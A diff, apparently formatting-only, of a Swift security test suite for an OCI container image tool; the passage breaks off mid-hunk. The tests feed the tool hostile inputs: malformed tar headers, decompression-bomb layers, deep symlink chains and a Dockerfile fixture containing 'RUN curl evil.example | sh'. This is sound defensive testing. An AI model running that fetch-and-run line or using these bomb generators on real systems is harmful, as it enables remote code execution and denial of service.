@@ -18,7 +18,9 @@ import OCI
     func oneLine(_ r: RunResult, _ cause: String, sourceLocation: SourceLocation = #_sourceLocation) {
         let lines = r.err.split(separator: "\n")
         #expect(r.status != 0, "exit 0: \(r.out)", sourceLocation: sourceLocation)
-        #expect(lines.count == 1 && r.err.contains(cause), "want one line with \(cause): \(r.err)", sourceLocation: sourceLocation)
+        #expect(
+            lines.count == 1 && r.err.contains(cause), "want one line with \(cause): \(r.err)",
+            sourceLocation: sourceLocation)
     }
 
     // MARK: Security
@@ -37,9 +39,13 @@ import OCI
         #expect(!FileManager.default.fileExists(atPath: dir + "/ctx"))
         #expect(listing(dir) == ["simple"], "nothing else written: \(listing(dir))")
         // --base-name gives a proper one.
-        let ok = try stamp(["dockerfile", "--base", "oci:" + layout, "--version", "v1", "--output", dir + "/ctx", "--base-name", "evil.example/y:1"])
+        let ok = try stamp([
+            "dockerfile", "--base", "oci:" + layout, "--version", "v1", "--output", dir + "/ctx", "--base-name",
+            "evil.example/y:1",
+        ])
         #expect(ok.status == 0, "\(ok.err)")
-        #expect(try String(contentsOfFile: dir + "/ctx/Dockerfile", encoding: .utf8).contains("evil.example/y:1@sha256:"))
+        #expect(
+            try String(contentsOfFile: dir + "/ctx/Dockerfile", encoding: .utf8).contains("evil.example/y:1@sha256:"))
     }
 
     /// #3: a dockerfiles/ folder in the working directory is not a template source.
@@ -47,14 +53,20 @@ import OCI
         let dir = try tempDir()
         let layout = try simpleLayout(dir)
         try FileManager.default.createDirectory(atPath: dir + "/dockerfiles", withIntermediateDirectories: true)
-        try "FROM scratch\nRUN curl evil.example | sh\n".write(toFile: dir + "/dockerfiles/anything-llm.Dockerfile", atomically: true, encoding: .utf8)
-        let r = try stampIn(dir, ["dockerfile", "--base", "oci:" + layout, "--version", "v1", "--output", dir + "/ctx"])
+        try "FROM scratch\nRUN curl evil.example | sh\n".write(
+            toFile: dir + "/dockerfiles/anything-llm.Dockerfile", atomically: true, encoding: .utf8)
+        let r = try stampIn(
+            dir, ["dockerfile", "--base", "oci:" + layout, "--version", "v1", "--output", dir + "/ctx"])
         #expect(r.status == 0, "\(r.err)")
         let text = try String(contentsOfFile: dir + "/ctx/Dockerfile", encoding: .utf8)
         #expect(!text.contains("RUN curl"), "\(text)")
         // Named as a file, it is used.
-        let named = try stampIn(dir, ["dockerfile", "--base", "oci:" + layout, "--version", "v1", "--output", dir + "/ctx2",
-                                      "--template", "dockerfiles/anything-llm.Dockerfile"])
+        let named = try stampIn(
+            dir,
+            [
+                "dockerfile", "--base", "oci:" + layout, "--version", "v1", "--output", dir + "/ctx2",
+                "--template", "dockerfiles/anything-llm.Dockerfile",
+            ])
         #expect(named.status == 0, "\(named.err)")
         #expect(try String(contentsOfFile: dir + "/ctx2/Dockerfile", encoding: .utf8).contains("RUN curl"))
     }
@@ -64,30 +76,30 @@ import OCI
     /// A tar whose `index.json` header says `size`: GNU base-256 (`b256`), or through a pax
     /// record (`pax`), padded with 8 KB of zeros.
     static let badTar = #"""
-    import struct, sys
-    out, how, value = sys.argv[1], sys.argv[2], int(sys.argv[3])
-    def header(name, size_field, typeflag=b"0"):
-        h = bytearray(512)
-        h[0:len(name)] = name
-        h[100:108] = b"0000644\0"; h[108:116] = b"0000000\0"; h[116:124] = b"0000000\0"
-        h[124:136] = size_field
-        h[136:148] = b"00000000000\0"; h[156:157] = typeflag; h[257:263] = b"ustar\0"; h[263:265] = b"00"
-        h[148:156] = b"        "
-        h[148:156] = b"%06o\0 " % sum(h)
-        return bytes(h)
-    def octal(n): return b"%011o\0" % n
-    def b256(n):
-        return bytes([0xff if n < 0 else 0x80]) + (n % (1 << 88)).to_bytes(11, "big")
-    data = b""
-    if how == "pax":
-        rec = b"size=%d\n" % value
-        rec = b"%d " % (len(rec) + 3) + rec
-        data += header(b"PaxHeaders/index.json", octal(len(rec)), b"x") + rec + b"\0" * (512 - len(rec))
-        data += header(b"index.json", octal(0))
-    else:
-        data += header(b"index.json", b256(value))
-    open(out, "wb").write(data + b"\0" * 8192)
-    """#
+        import struct, sys
+        out, how, value = sys.argv[1], sys.argv[2], int(sys.argv[3])
+        def header(name, size_field, typeflag=b"0"):
+            h = bytearray(512)
+            h[0:len(name)] = name
+            h[100:108] = b"0000644\0"; h[108:116] = b"0000000\0"; h[116:124] = b"0000000\0"
+            h[124:136] = size_field
+            h[136:148] = b"00000000000\0"; h[156:157] = typeflag; h[257:263] = b"ustar\0"; h[263:265] = b"00"
+            h[148:156] = b"        "
+            h[148:156] = b"%06o\0 " % sum(h)
+            return bytes(h)
+        def octal(n): return b"%011o\0" % n
+        def b256(n):
+            return bytes([0xff if n < 0 else 0x80]) + (n % (1 << 88)).to_bytes(11, "big")
+        data = b""
+        if how == "pax":
+            rec = b"size=%d\n" % value
+            rec = b"%d " % (len(rec) + 3) + rec
+            data += header(b"PaxHeaders/index.json", octal(len(rec)), b"x") + rec + b"\0" * (512 - len(rec))
+            data += header(b"index.json", octal(0))
+        else:
+            data += header(b"index.json", b256(value))
+        open(out, "wb").write(data + b"\0" * 8192)
+        """#
 
     @Test(arguments: [("b256", "-1023"), ("pax", "-2048"), ("b256", "9223372036854775707")])
     func impossibleTarSizesAreOneClearError(_ how: String, _ value: String) throws {
@@ -95,8 +107,10 @@ import OCI
         let tar = dir + "/bad.tar"
         let made = try run(["python3", "-c", Self.badTar, tar, how, value])
         try #require(made.status == 0, "\(made.err)")
-        for args in [["inspect", tar], ["verify", tar], ["build", "--base", tar, "--version", "v1", "--output", dir + "/o.tar"],
-                     ["push", tar, "docker://127.0.0.1:9/x:y"]] {
+        for args in [
+            ["inspect", tar], ["verify", tar], ["build", "--base", tar, "--version", "v1", "--output", dir + "/o.tar"],
+            ["push", tar, "docker://127.0.0.1:9/x:y"],
+        ] {
             let r = try run(["timeout", "20", stampBin] + args, env: ["STAMP_CACHE_DIR": testCacheDir])
             #expect(r.status != 124, "\(args[0]) still running after 20 s")
             #expect(r.status != 132 && !r.err.contains("Fatal error"), "\(args[0]) trapped: \(r.err.prefix(300))")
@@ -114,11 +128,15 @@ import OCI
     @Test func numbersPastInt64AreUsageErrors() throws {
         let dir = try tempDir()
         let base = try sampleBase(dir)
-        for (flag, value, cause) in [("--health-interval", "9999999999999", "too long a duration"),
-                                     ("--health-timeout", "99999999999h", "too long a duration"),
-                                     ("--created", "-9223372036854775808", "--created"),
-                                     ("--created", "9999999999999", "--created")] {
-            let r = try stamp(["build", "--base", base, "--version", "v1", "--output", dir + "/o.tar", "\(flag)=\(value)"])
+        for (flag, value, cause) in [
+            ("--health-interval", "9999999999999", "too long a duration"),
+            ("--health-timeout", "99999999999h", "too long a duration"),
+            ("--created", "-9223372036854775808", "--created"),
+            ("--created", "9999999999999", "--created"),
+        ] {
+            let r = try stamp([
+                "build", "--base", base, "--version", "v1", "--output", dir + "/o.tar", "\(flag)=\(value)",
+            ])
             #expect(r.status == 64 || r.status == 2, "\(flag) \(value): exit \(r.status)")
             #expect(r.status != 132 && !r.err.contains("Fatal error"), "\(flag) \(value) trapped")
             oneLine(r, cause)
@@ -130,14 +148,19 @@ import OCI
     @Test func hugeDescriptorSizesAreRefused() throws {
         let dir = try tempDir()
         let layout = try simpleLayout(dir)
-        try editLayout(layout, manifest: { m in
-            var layers = m["layers"]!.arrayValue!
-            var d = Descriptor(json: layers[0])
-            d.size = Int64.max - 100
-            layers[0] = d.json
-            m["layers"] = .array(layers)
-        })
-        for args in [["inspect", "oci:" + layout], ["verify", "oci:" + layout], ["build", "--base", "oci:" + layout, "--version", "v1", "--output", dir + "/o.tar"]] {
+        try editLayout(
+            layout,
+            manifest: { m in
+                var layers = m["layers"]!.arrayValue!
+                var d = Descriptor(json: layers[0])
+                d.size = Int64.max - 100
+                layers[0] = d.json
+                m["layers"] = .array(layers)
+            })
+        for args in [
+            ["inspect", "oci:" + layout], ["verify", "oci:" + layout],
+            ["build", "--base", "oci:" + layout, "--version", "v1", "--output", dir + "/o.tar"],
+        ] {
             let r = try stamp(args)
             #expect(r.status != 132 && !r.err.contains("Fatal error"), "\(args[0]) trapped")
             #expect(r.status != 0 && (r.err + r.out).contains("more than 1 PiB"), "\(args[0]): \(r.out) \(r.err)")
@@ -150,7 +173,9 @@ import OCI
         let dir = try tempDir()
         #expect(mkfifo(dir + "/base.tar", 0o600) == 0)
         for base in [dir + "/base.tar", "oci-archive:" + dir + "/base.tar", "docker-archive:" + dir + "/base.tar"] {
-            let r = try run(["timeout", "20", stampBin, "build", "--base", base, "--version", "v1", "--output", dir + "/o.tar"])
+            let r = try run([
+                "timeout", "20", stampBin, "build", "--base", base, "--version", "v1", "--output", dir + "/o.tar",
+            ])
             #expect(r.status != 124, "still waiting on the FIFO after 20 s")
             oneLine(r, "is a FIFO, not a regular file")
         }
@@ -168,7 +193,8 @@ import OCI
         }
         var st = stat()
         #expect(lstat(dir + "/fifo.tar", &st) == 0 && (st.st_mode & S_IFMT) == S_IFIFO, "the FIFO is still a FIFO")
-        #expect(lstat(dir + "/link.tar", &st) == 0 && (st.st_mode & S_IFMT) == S_IFLNK, "the symlink is still a symlink")
+        #expect(
+            lstat(dir + "/link.tar", &st) == 0 && (st.st_mode & S_IFMT) == S_IFLNK, "the symlink is still a symlink")
         #expect(listing(dir) == ["base.tar", "fifo.tar", "link.tar"])
     }
 
@@ -177,9 +203,14 @@ import OCI
         let base = try sampleBase(dir)
         let before = try bytes(base)
         link(base, dir + "/hard.tar")
-        for (b, o) in [("oci-archive:" + base, "./base.tar"), ("oci-archive:" + base, base), (base, dir + "/./base.tar"),
-                       (dir + "/hard.tar", "oci-archive:" + base)] {
-            let r = try run(["sh", "-c", "cd \"$0\" && exec \"$@\"", dir, stampBin, "build", "--base", b, "--version", "v1", "--output", o])
+        for (b, o) in [
+            ("oci-archive:" + base, "./base.tar"), ("oci-archive:" + base, base), (base, dir + "/./base.tar"),
+            (dir + "/hard.tar", "oci-archive:" + base),
+        ] {
+            let r = try run([
+                "sh", "-c", "cd \"$0\" && exec \"$@\"", dir, stampBin, "build", "--base", b, "--version", "v1",
+                "--output", o,
+            ])
             oneLine(r, "is the file the image is read from")
         }
         #expect(try bytes(base) == before)
@@ -200,7 +231,8 @@ import OCI
         let r = try run(["/usr/bin/time", "-q", "-f", "%M", stampBin, "build", "--config", dir + "/stamp.yaml"])
         let lines = r.err.split(separator: "\n")
         #expect(r.status != 0)
-        #expect(lines.count == 2 && lines[0].contains("more than 10000 values once YAML aliases are expanded"), "\(r.err)")
+        #expect(
+            lines.count == 2 && lines[0].contains("more than 10000 values once YAML aliases are expanded"), "\(r.err)")
         let peakKB = Int(lines.last ?? "") ?? .max
         #expect(peakKB < 100_000, "peak RSS \(peakKB) KB")
         #expect(listing(dir) == ["stamp.yaml"])
@@ -215,45 +247,53 @@ import OCI
         let bad = try bytes(first) + Array("trailing garbage".utf8)
         let digest = Digester.digest(bad)
         try Data(bad).write(to: URL(fileURLWithPath: layout + "/blobs/sha256/" + Digest.hex(digest)))
-        try editLayout(layout, manifest: { m in
-            var layers = m["layers"]!.arrayValue!
-            var d = Descriptor(json: layers[0])
-            d.digest = digest
-            d.size = Int64(bad.count)
-            layers[0] = d.json
-            m["layers"] = .array(layers)
-        })
+        try editLayout(
+            layout,
+            manifest: { m in
+                var layers = m["layers"]!.arrayValue!
+                var d = Descriptor(json: layers[0])
+                d.digest = digest
+                d.size = Int64(bad.count)
+                layers[0] = d.json
+                m["layers"] = .array(layers)
+            })
         let b = try stamp(["build", "--base", "oci:" + layout, "--version", "v1", "--output", dir + "/o.tar"])
         oneLine(b, "layer \(digest): trailing garbage after the gzip stream")
         #expect(!FileManager.default.fileExists(atPath: dir + "/o.tar"))
         let v = try stamp(["verify", "oci:" + layout, "--integrity-only"])
         #expect(v.status == 1, "verify: \(v.status) \(v.out) \(v.err)")
-        #expect(v.out.contains("trailing garbage after the gzip stream") && v.out.contains(Digest.short(digest)), "\(v.out)")
+        #expect(
+            v.out.contains("trailing garbage after the gzip stream") && v.out.contains(Digest.short(digest)), "\(v.out)"
+        )
     }
 
     // MARK: Bounded merges (#6)
 
     /// A docker-archive base: layer 0 has /bin/sh and /bin/curl; `kind` adds the hostile part.
     static let hostileTree = #"""
-    import sys
-    from image_kit import layer, docker_archive, F, L
-    out, kind = sys.argv[1], sys.argv[2]
-    layers = [layer([("bin/sh", F, b"#!"), ("bin/curl", F, b"x")])]
-    if kind == "deep-symlink":
-        layers.append(layer([("a/" * 100000 + "link", L, "x")]))
-    elif kind == "deep-files":
-        # 4,000 files under the frontend, each at the end of its own 1,000-folder chain.
-        layers.append(layer([("app/server/public/%04d/" % i + "d/" * 1000 + "f.js", F, b"x") for i in range(4000)]))
-    elif kind == "whiteouts":
-        layers.append(layer([("s/%05d" % i, L, "t") for i in range(30000)]))
-        layers.append(layer([("s/.wh.%05d" % i, F, b"") for i in range(30000)]))
-    docker_archive(out, layers, {"config": {"Env": ["PATH=/bin"]}})
-    """#
+        import sys
+        from image_kit import layer, docker_archive, F, L
+        out, kind = sys.argv[1], sys.argv[2]
+        layers = [layer([("bin/sh", F, b"#!"), ("bin/curl", F, b"x")])]
+        if kind == "deep-symlink":
+            layers.append(layer([("a/" * 100000 + "link", L, "x")]))
+        elif kind == "deep-files":
+            # 4,000 files under the frontend, each at the end of its own 1,000-folder chain.
+            layers.append(layer([("app/server/public/%04d/" % i + "d/" * 1000 + "f.js", F, b"x") for i in range(4000)]))
+        elif kind == "whiteouts":
+            layers.append(layer([("s/%05d" % i, L, "t") for i in range(30000)]))
+            layers.append(layer([("s/.wh.%05d" % i, F, b"") for i in range(30000)]))
+        docker_archive(out, layers, {"config": {"Env": ["PATH=/bin"]}})
+        """#
 
     /// Builds with a 30 s limit under GNU time; returns the result and the peak RSS in KB.
     func timedBuild(_ base: String, _ out: String) throws -> (RunResult, Int) {
-        let r = try run(["timeout", "30", "/usr/bin/time", "-q", "-f", "%M", stampBin, "build", "--base", "docker-archive:" + base,
-                         "--version", "v1", "--output", out], env: ["STAMP_CACHE_DIR": testCacheDir])
+        let r = try run(
+            [
+                "timeout", "30", "/usr/bin/time", "-q", "-f", "%M", stampBin, "build", "--base",
+                "docker-archive:" + base,
+                "--version", "v1", "--output", out,
+            ], env: ["STAMP_CACHE_DIR": testCacheDir])
         let last = r.err.split(separator: "\n").last.map(String.init) ?? ""
         var result = r
         result.err = r.err.split(separator: "\n").dropLast().joined(separator: "\n")
@@ -272,8 +312,12 @@ import OCI
     @Test func thousandsOfDeepDistinctChainsAreRefusedBounded() throws {
         let dir = try tempDir()
         #expect(try python(Self.hostileTree, [dir + "/base.tar", "deep-files"]).status == 0)
-        let r = try run(["timeout", "60", "/usr/bin/time", "-q", "-f", "%M", stampBin, "build", "--base", "docker-archive:" + dir + "/base.tar",
-                         "--version", "v1", "--hash-assets", "--output", dir + "/o.tar"], env: ["STAMP_CACHE_DIR": testCacheDir])
+        let r = try run(
+            [
+                "timeout", "60", "/usr/bin/time", "-q", "-f", "%M", stampBin, "build", "--base",
+                "docker-archive:" + dir + "/base.tar",
+                "--version", "v1", "--hash-assets", "--output", dir + "/o.tar",
+            ], env: ["STAMP_CACHE_DIR": testCacheDir])
         var lines = r.err.split(separator: "\n").map(String.init)
         let peak = Int(lines.popLast() ?? "") ?? .max
         #expect(r.status == 2 && lines.count == 1 && lines[0].contains("more than 64 MiB"), "\(r.status) \(lines)")
@@ -303,13 +347,16 @@ import OCI
         let body = String(repeating: opener, count: 200_000 / opener.utf8.count)
         try body.write(toFile: dir + "/in/a.css", atomically: true, encoding: .utf8)
         try body.write(toFile: dir + "/in/a.js", atomically: true, encoding: .utf8)
-        try ("<link rel=stylesheet href=a.css><script src=a.js></script>" + body + body).write(toFile: dir + "/in/index.html", atomically: true, encoding: .utf8)
+        try ("<link rel=stylesheet href=a.css><script src=a.js></script>" + body + body).write(
+            toFile: dir + "/in/index.html", atomically: true, encoding: .utf8)
         let start = Date()
         let r = try run(["timeout", "60", stampBin, "assets", "hash", dir + "/in", "--output", dir + "/out", "--sri"])
         #expect(r.status == 0, "\(r.err)")
         let v = try run(["timeout", "60", stampBin, "assets", "verify", dir + "/out"])
         #expect(v.status == 0, "\(v.out)\(v.err)")
-        #expect(Date().timeIntervalSince(start) < 20, "\(opener): hash and verify took \(Date().timeIntervalSince(start)) s")
+        #expect(
+            Date().timeIntervalSince(start) < 20, "\(opener): hash and verify took \(Date().timeIntervalSince(start)) s"
+        )
     }
 
     // MARK: Nothing lost, nothing left (#16)
@@ -353,7 +400,10 @@ import OCI
     @Test func anUnwritableLockFailsBeforeTheImageIsWritten() throws {
         let dir = try tempDir()
         let base = try sampleBase(dir)
-        let r = try stamp(["build", "--base", base, "--version", "v1", "--output", dir + "/out.tar", "--lock", dir + "/nope/stamp.lock"])
+        let r = try stamp([
+            "build", "--base", base, "--version", "v1", "--output", dir + "/out.tar", "--lock",
+            dir + "/nope/stamp.lock",
+        ])
         oneLine(r, "--lock: \(dir)/nope/stamp.lock: folder \(dir)/nope does not exist")
         #expect(listing(dir) == ["base.tar"])
     }
@@ -380,7 +430,9 @@ import OCI
     @Test func aRootPublicVersionPathIsAUsageError() throws {
         let dir = try tempDir()
         let base = try sampleBase(dir)
-        let r = try stamp(["build", "--base", base, "--version", "v1", "--output", dir + "/o.tar", "--public-version", "/"])
+        let r = try stamp([
+            "build", "--base", base, "--version", "v1", "--output", dir + "/o.tar", "--public-version", "/",
+        ])
         oneLine(r, "--public-version: \"/\" must be an absolute file path")
     }
 
@@ -389,24 +441,34 @@ import OCI
     @Test func buildHoldsTheBaseToVerifysRules() throws {
         let dir = try tempDir()
         let a = try simpleLayout(dir + "/a")
-        try editLayout(a, config: { c in
-            var rootfs = c["rootfs"]!
-            rootfs["diff_ids"] = .array(Array(rootfs["diff_ids"]!.arrayValue!.dropLast()))
-            c["rootfs"] = rootfs
-        })
-        oneLine(try stamp(["build", "--base", "oci:" + a, "--version", "v1", "--output", dir + "/a.tar"]), "rootfs.diff_ids")
+        try editLayout(
+            a,
+            config: { c in
+                var rootfs = c["rootfs"]!
+                rootfs["diff_ids"] = .array(Array(rootfs["diff_ids"]!.arrayValue!.dropLast()))
+                c["rootfs"] = rootfs
+            })
+        oneLine(
+            try stamp(["build", "--base", "oci:" + a, "--version", "v1", "--output", dir + "/a.tar"]), "rootfs.diff_ids"
+        )
         let b = try simpleLayout(dir + "/b")
-        try editLayout(b, manifest: { m in
-            var layers = m["layers"]!.arrayValue!
-            var d = Descriptor(json: layers[0])
-            d.mediaType = MediaType.ociLayerZstd
-            layers[0] = d.json
-            m["layers"] = .array(layers)
-        })
-        oneLine(try stamp(["build", "--base", "oci:" + b, "--version", "v1", "--output", dir + "/b.tar"]), "says zstd, content is gzip")
+        try editLayout(
+            b,
+            manifest: { m in
+                var layers = m["layers"]!.arrayValue!
+                var d = Descriptor(json: layers[0])
+                d.mediaType = MediaType.ociLayerZstd
+                layers[0] = d.json
+                m["layers"] = .array(layers)
+            })
+        oneLine(
+            try stamp(["build", "--base", "oci:" + b, "--version", "v1", "--output", dir + "/b.tar"]),
+            "says zstd, content is gzip")
         let v = try stamp(["verify", "--integrity-only", "oci:" + b])
         #expect(v.status == 1 && v.out.contains("says zstd, content is gzip"), "\(v.out)")
-        #expect(!FileManager.default.fileExists(atPath: dir + "/a.tar") && !FileManager.default.fileExists(atPath: dir + "/b.tar"))
+        #expect(
+            !FileManager.default.fileExists(atPath: dir + "/a.tar")
+                && !FileManager.default.fileExists(atPath: dir + "/b.tar"))
     }
 
     // MARK: Bounded memory in verify and inspect (#7)
@@ -414,14 +476,14 @@ import OCI
     /// A stamped-looking image whose top layer holds 5,000 files of 64 KB (320 MB, a few MB
     /// gzipped) before its version.json.
     static let wideTopLayer = #"""
-    import gzip, json, sys
-    from image_kit import layer, docker_archive, F
-    doc = json.dumps({"version": "v1", "created": "2025-04-05T00:00:00Z"}).encode()
-    top = layer([("app/a/%05d.txt" % i, F, bytes(65536)) for i in range(5000)] + [("app/version.json", F, doc)])
-    docker_archive(sys.argv[1], [gzip.compress(top, compresslevel=1, mtime=0)],
-                   {"created": "2025-04-05T00:00:00Z",
-                    "config": {"Labels": {"org.opencontainers.image.version": "v1", "dev.stamp.version-json": "/app/version.json"}}})
-    """#
+        import gzip, json, sys
+        from image_kit import layer, docker_archive, F
+        doc = json.dumps({"version": "v1", "created": "2025-04-05T00:00:00Z"}).encode()
+        top = layer([("app/a/%05d.txt" % i, F, bytes(65536)) for i in range(5000)] + [("app/version.json", F, doc)])
+        docker_archive(sys.argv[1], [gzip.compress(top, compresslevel=1, mtime=0)],
+                       {"created": "2025-04-05T00:00:00Z",
+                        "config": {"Labels": {"org.opencontainers.image.version": "v1", "dev.stamp.version-json": "/app/version.json"}}})
+        """#
 
     @Test func verifyAndInspectKeepLittleOfAWideTopLayer() throws {
         let dir = try tempDir()
@@ -443,25 +505,28 @@ import OCI
     /// Three 40 MB script files of zeros, one per layer (a few hundred KB gzipped), under the
     /// anything-llm frontend folder.
     static let frontendBomb = #"""
-    import gzip, sys
-    from image_kit import layer, docker_archive, F
-    ext = sys.argv[2] if len(sys.argv) > 2 else "js"
-    layers = []
-    for i in range(3):
-        files = [("app/server/public/bomb-%d.%s" % (i, ext), F, bytes(40 << 20))]
-        if i == 0:
-            files.append(("app/server/public/index.html", F, ("<script src=bomb-0.%s></script>" % ext).encode()))
-        layers.append(gzip.compress(layer(files), compresslevel=1, mtime=0))
-    docker_archive(sys.argv[1], layers, {})
-    """#
+        import gzip, sys
+        from image_kit import layer, docker_archive, F
+        ext = sys.argv[2] if len(sys.argv) > 2 else "js"
+        layers = []
+        for i in range(3):
+            files = [("app/server/public/bomb-%d.%s" % (i, ext), F, bytes(40 << 20))]
+            if i == 0:
+                files.append(("app/server/public/index.html", F, ("<script src=bomb-0.%s></script>" % ext).encode()))
+            layers.append(gzip.compress(layer(files), compresslevel=1, mtime=0))
+        docker_archive(sys.argv[1], layers, {})
+        """#
 
     /// The same size in images: spooled to disk as the layers are read, not held in memory.
     @Test func largeFrontendBinariesAreSpooledNotHeld() throws {
         let dir = try tempDir()
         let made = try python(Self.frontendBomb, [dir + "/big.tar", "png"])
         try #require(made.status == 0, "\(made.err)")
-        let r = try run(["/usr/bin/time", "-q", "-f", "%M", stampBin, "build", "--base", dir + "/big.tar", "--version", "v1",
-                         "--no-healthcheck", "--hash-assets", "--output", dir + "/o.tar"], env: ["STAMP_CACHE_DIR": testCacheDir])
+        let r = try run(
+            [
+                "/usr/bin/time", "-q", "-f", "%M", stampBin, "build", "--base", dir + "/big.tar", "--version", "v1",
+                "--no-healthcheck", "--hash-assets", "--output", dir + "/o.tar",
+            ], env: ["STAMP_CACHE_DIR": testCacheDir])
         let peak = Int(r.err.split(separator: "\n").last ?? "") ?? .max
         #expect(r.status == 0, "\(r.err)")
         #expect(peak < 80_000, "peak RSS \(peak) KB for 120 MB of images")
@@ -473,18 +538,25 @@ import OCI
         let dir = try tempDir()
         let made = try python(Self.frontendBomb, [dir + "/bomb.tar"])
         try #require(made.status == 0, "\(made.err)")
-        let r = try run(["/usr/bin/time", "-q", "-f", "%M", stampBin, "build", "--base", dir + "/bomb.tar", "--version", "v1",
-                         "--no-healthcheck", "--hash-assets", "--max-frontend-size", "64M", "--output", dir + "/o.tar"],
-                        env: ["STAMP_CACHE_DIR": testCacheDir])
+        let r = try run(
+            [
+                "/usr/bin/time", "-q", "-f", "%M", stampBin, "build", "--base", dir + "/bomb.tar", "--version", "v1",
+                "--no-healthcheck", "--hash-assets", "--max-frontend-size", "64M", "--output", dir + "/o.tar",
+            ],
+            env: ["STAMP_CACHE_DIR": testCacheDir])
         var lines = r.err.split(separator: "\n").map(String.init)
         let peak = Int(lines.popLast() ?? "") ?? .max
         #expect(r.status != 0)
-        #expect(lines.count == 1 && lines[0].contains("inflates to more than 64 MiB") && lines[0].contains("--max-frontend-size"), "\(lines)")
+        #expect(
+            lines.count == 1 && lines[0].contains("inflates to more than 64 MiB")
+                && lines[0].contains("--max-frontend-size"), "\(lines)")
         #expect(peak < 250_000, "peak RSS \(peak) KB")
         #expect(listing(dir) == ["bomb.tar"])
         // Raised, it builds.
-        let ok = try stamp(["build", "--base", dir + "/bomb.tar", "--version", "v1", "--no-healthcheck", "--hash-assets",
-                            "--max-frontend-size", "1G", "--output", dir + "/o.tar"])
+        let ok = try stamp([
+            "build", "--base", dir + "/bomb.tar", "--version", "v1", "--no-healthcheck", "--hash-assets",
+            "--max-frontend-size", "1G", "--output", dir + "/o.tar",
+        ])
         #expect(ok.status == 0, "\(ok.err)")
     }
 
@@ -497,13 +569,17 @@ import OCI
         let server = try Background(["python3", script, mode], log: dir + "/server.log", stdout: dir + "/port")
         var port = 0
         for _ in 0..<100 where port == 0 {
-            port = Int((try? String(contentsOfFile: dir + "/port", encoding: .utf8))?.trimmingCharacters(in: .whitespacesAndNewlines) ?? "") ?? 0
+            port =
+                Int(
+                    (try? String(contentsOfFile: dir + "/port", encoding: .utf8))?.trimmingCharacters(
+                        in: .whitespacesAndNewlines) ?? "") ?? 0
             if port == 0 { usleep(100_000) }
         }
         try #require(port > 0)
         let start = Date()
-        let r = try run(["timeout", "60", stampBin, "inspect", "docker://127.0.0.1:\(port)/ai/app:v1", "--tls-verify=false"],
-                        env: ["STAMP_REGISTRY_DEADLINE": "5"])
+        let r = try run(
+            ["timeout", "60", stampBin, "inspect", "docker://127.0.0.1:\(port)/ai/app:v1", "--tls-verify=false"],
+            env: ["STAMP_REGISTRY_DEADLINE": "5"])
         #expect(r.status != 124, "still waiting after 60 s")
         oneLine(r, cause)
         #expect(Date().timeIntervalSince(start) < 30, "took \(Date().timeIntervalSince(start)) s")
@@ -516,13 +592,15 @@ import OCI
         let dir = try tempDir()
         let base = try sampleBase(dir)
         let pids = try (1...4).map { i in
-            try spawn([stampBin, "build", "--base", base, "--version", "v\(i)", "--output", "oci:\(dir)/layout:t\(i)"],
-                      env: ["STAMP_CACHE_DIR": testCacheDir], stderr: dir + "/err\(i)")
+            try spawn(
+                [stampBin, "build", "--base", base, "--version", "v\(i)", "--output", "oci:\(dir)/layout:t\(i)"],
+                env: ["STAMP_CACHE_DIR": testCacheDir], stderr: dir + "/err\(i)")
         }
         for p in pids { #expect(exitStatus(p) == 0) }
-        let names = Set((try readJSON(dir + "/layout/index.json"))["manifests"]!.arrayValue!.compactMap {
-            Descriptor(json: $0).annotations[AnnotationKey.refName]
-        })
+        let names = Set(
+            (try readJSON(dir + "/layout/index.json"))["manifests"]!.arrayValue!.compactMap {
+                Descriptor(json: $0).annotations[AnnotationKey.refName]
+            })
         #expect(names == ["t1", "t2", "t3", "t4"], "\(names)")
         #expect(try stamp(["verify", "oci:\(dir)/layout:t3"]).status == 0)
     }
@@ -533,7 +611,9 @@ import OCI
         for v in ["v1", "v2"] {
             #expect(try stamp(["build", "--base", base, "--version", v, "--output", "oci:\(dir)/layout"]).status == 0)
         }
-        #expect((try readJSON(dir + "/layout/index.json"))["manifests"]?.arrayValue?.count == 2, "an untagged build keeps the other untagged image")
+        #expect(
+            (try readJSON(dir + "/layout/index.json"))["manifests"]?.arrayValue?.count == 2,
+            "an untagged build keeps the other untagged image")
         try "{ not json".write(toFile: dir + "/layout/index.json", atomically: false, encoding: .utf8)
         let r = try stamp(["build", "--base", base, "--version", "v3", "--output", "oci:\(dir)/layout"])
         oneLine(r, "stamp will not replace it")
@@ -565,10 +645,14 @@ import OCI
         let server = try Background(["python3", script, "drip"], log: dir + "/server.log", stdout: dir + "/port")
         var port = 0
         for _ in 0..<100 where port == 0 {
-            port = Int((try? String(contentsOfFile: dir + "/port", encoding: .utf8))?.trimmingCharacters(in: .whitespacesAndNewlines) ?? "") ?? 0
+            port =
+                Int(
+                    (try? String(contentsOfFile: dir + "/port", encoding: .utf8))?.trimmingCharacters(
+                        in: .whitespacesAndNewlines) ?? "") ?? 0
             if port == 0 { usleep(100_000) }
         }
-        let pid = try spawn([stampBin, "inspect", "docker://127.0.0.1:\(port)/ai/app:v1", "--tls-verify=false"], stderr: dir + "/err")
+        let pid = try spawn(
+            [stampBin, "inspect", "docker://127.0.0.1:\(port)/ai/app:v1", "--tls-verify=false"], stderr: dir + "/err")
         usleep(1_500_000)
         kill(pid, SIGSEGV)
         #expect(exitStatus(pid) == 70)
@@ -580,33 +664,39 @@ import OCI
     /// A frontend file stored as a hard link (to a file earlier in its layer) is hashed as that
     /// file, not dropped; a NUL in a frontend name is refused, never written truncated.
     static let linkedFrontend = #"""
-    import sys
-    from image_kit import layer, docker_archive, F, H
-    out, kind = sys.argv[1], sys.argv[2]
-    files = [("bin/sh", F, b"#!"), ("bin/curl", F, b"x"),
-             ("app/server/public/index.html", F, b'<script src="a.js"></script><script src="b.js"></script>'),
-             ("app/server/public/b.js", F, b"console.log('b')")]
-    pax = {}
-    if kind == "hardlink":
-        files.append(("app/server/public/a.js", H, "app/server/public/b.js"))
-    else:
-        # Only a pax record can hold the NUL.
-        files.append(("app/server/public/ax.js", F, b"nul"))
-        pax = {"app/server/public/ax.js": {"path": "app/server/public/a\0x.js"}}
-    docker_archive(out, [layer(files, pax=pax)], {"config": {"Env": ["PATH=/bin"]}})
-    """#
+        import sys
+        from image_kit import layer, docker_archive, F, H
+        out, kind = sys.argv[1], sys.argv[2]
+        files = [("bin/sh", F, b"#!"), ("bin/curl", F, b"x"),
+                 ("app/server/public/index.html", F, b'<script src="a.js"></script><script src="b.js"></script>'),
+                 ("app/server/public/b.js", F, b"console.log('b')")]
+        pax = {}
+        if kind == "hardlink":
+            files.append(("app/server/public/a.js", H, "app/server/public/b.js"))
+        else:
+            # Only a pax record can hold the NUL.
